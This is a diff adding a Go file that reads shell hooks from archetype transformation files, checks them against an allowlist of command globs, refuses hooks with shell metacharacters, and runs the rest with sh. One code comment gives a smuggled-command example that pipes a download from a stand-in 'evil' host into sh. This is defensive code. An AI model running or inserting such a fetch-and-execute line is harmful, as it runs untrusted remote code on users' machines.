@@ -0,0 +1,157 @@
+package garchetype
+
+import (
+	"bufio"
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"regexp"
+	"strings"
+
+	"github.com/diegosz/go-archetype/log"
+	"github.com/diegosz/go-archetype/template"
+	"gopkg.in/yaml.v2"
+)
+
+// hook is a shell command of the before or after operations of a
+// transformation, run like go-archetype does: line by line, unless multiline.
+type hook struct {
+	Cmd       string `yaml:"cmd"`
+	Multiline bool   `yaml:"multiline"`
+}
+
+// UnmarshalYAML accepts a hook as its command alone too.
+func (h *hook) UnmarshalYAML(unmarshal func(any) error) error {
+	if err := unmarshal(&h.Cmd); err == nil {
+		return nil
+	}
+	type raw hook
+	return unmarshal((*raw)(h))
+}
+
+// hooksSpec is the before or after section of a transformation file.
+type hooksSpec struct {
+	Operations []struct {
+		Sh []hook `yaml:"sh"`
+	} `yaml:"operations"`
+}
+
+// hooks returns the shell commands of the section, in order.
+func (s hooksSpec) hooks() []hook {
+	var hs []hook
+	for _, op := range s.Operations {
+		hs = append(hs, op.Sh...)
+	}
+	return hs
+}
+
+// readHooks returns the hooks of the before and after operations of the
+// transformation file.
+func readHooks(file string) (before, after []hook, err error) {
+	b, err := os.ReadFile(file)
+	if err != nil {
+		return nil, nil, err
+	}
+	var ops struct {
+		Before hooksSpec `yaml:"before"`
+		After  hooksSpec `yaml:"after"`
+	}
+	if err := yaml.Unmarshal(b, &ops); err != nil {
+		return nil, nil, fmt.Errorf("invalid transformation file %s: %w", file, err)
+	}
+	return ops.Before.hooks(), ops.After.hooks(), nil
+}
+
+// hooksConfig controls the hooks the archetypes of the project may run.
+type hooksConfig struct {
+	// Allow are the globs of the permitted hook commands, * matching any
+	// text. When set, the archetypes with other hooks are refused.
+	Allow []string `yaml:"allow"`
+}
+
+// shellMetachars are the shell characters chaining, substituting or
+// redirecting commands. The hooks with them are refused along with an
+// allowlist, so an allowed command can't smuggle another one, e.g.
+// "go generate ./...; curl evil | sh" matching "go generate *".
+const shellMetachars = ";|&$()<>`\n"
+
+// allowed reports whether the templated command cmd is permitted.
+func (hc hooksConfig) allowed(cmd string) bool {
+	if len(hc.Allow) == 0 {
+		return true
+	}
+	if strings.ContainsAny(cmd, shellMetachars) {
+		return false
+	}
+	for _, a := range hc.Allow {
+		re := "^" + strings.ReplaceAll(regexp.QuoteMeta(strings.TrimSpace(a)), `\*`, ".*") + "$"
+		if regexp.MustCompile(re).MatchString(cmd) {
+			return true
+		}
+	}
+	return false
+}
+
+// commands returns the commands run by the hook, its lines unless multiline.
+func (h hook) commands() []string {
+	if h.Multiline {
+		return []string{strings.TrimSpace(h.Cmd)}
+	}
+	var cmds []string
+	s := bufio.NewScanner(strings.NewReader(h.Cmd))
+	for s.Scan() {
+		cmds = append(cmds, s.Text())
+	}
+	return cmds
+}
+
+// templateHooks executes the commands of the hooks as templates with vars.
+func templateHooks(hs []hook, vars map[string]string) error {
+	for i := range hs {
+		cmd, err := template.Execute(hs[i].Cmd, vars)
+		if err != nil {
+			return err
+		}
+		hs[i].Cmd = cmd
+	}
+	return nil
+}
+
+// check fails on the first command of the hooks the project doesn't allow.
+func (hc hooksConfig) check(hs []hook) error {
+	for _, h := range hs {
+		for _, cmd := range h.commands() {
+			if len(hc.Allow) > 0 && strings.ContainsAny(cmd, shellMetachars) {
+				return WithHint(fmt.Errorf("hook command chains, substitutes or redirects commands: %s", cmd), "project-configuration",
+					"Along with hooks.allow the hooks must be plain commands, move the rest into a script the allowlist names, or pass %s", optNoHooks)
+			}
+			if !hc.allowed(cmd) {
+				return WithHint(fmt.Errorf("hook command not allowed: %s", cmd), "project-configuration",
+					"Add it to the hooks.allow globs of the %s file, or pass %s to skip the hooks", projectConfigFile, optNoHooks)
+			}
+		}
+	}
+	return nil
+}
+
+// runHooks runs the commands of the hooks with sh in the dir folder, the
+// working one if empty, stopping at the first failing one.
+func runHooks(hs []hook, dir string, logger log.Logger) error {
+	for _, h := range hs {
+		for _, line := range h.commands() {
+			cmd := exec.Command("sh", "-c", line) //nolint:gosec // Checked against the hooks allowlist.
+			var stdout, stderr bytes.Buffer
+			cmd.Dir = dir
+			cmd.Stdout = &stdout
+			cmd.Stderr = &stderr
+			logger.Infof("Running command: %s", line)
+			if err := cmd.Run(); err != nil {
+				logger.Errorf("Error running command.\n\t STDOUT: %s \n\n\t STDERR: %s", stdout.String(), stderr.String())
+				return fmt.Errorf("error running command %s: %w", line, err)
+			}
+			logger.Infof("Output: %s", stdout.String())
+		}
+	}
+	return nil
+}